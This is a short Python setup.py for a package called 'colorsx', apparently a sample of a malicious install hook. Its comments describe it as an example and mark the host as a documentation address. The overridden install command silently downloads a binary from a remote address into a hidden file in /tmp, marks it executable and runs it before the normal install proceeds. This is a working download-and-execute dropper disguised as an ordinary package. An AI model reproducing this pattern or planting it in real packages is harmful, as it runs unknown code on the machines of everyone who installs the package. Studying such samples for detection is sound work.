# An overridden install command: the code runs whenever the package is installed.
# Inert: 192.0.2.0/24 is a documentation network.
import os
import subprocess as sp
from urllib.request import urlretrieve
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        urlretrieve("http://192.0.2.44/x.bin", "/tmp/.x")
        os.chmod("/tmp/.x", 0o755)
        sp.Popen(["/tmp/.x"])
        install.run(self)


setup(
    name="colorsx",
    version="0.1",
    packages=["colorsx"],
    cmdclass={"install": PostInstall},
)
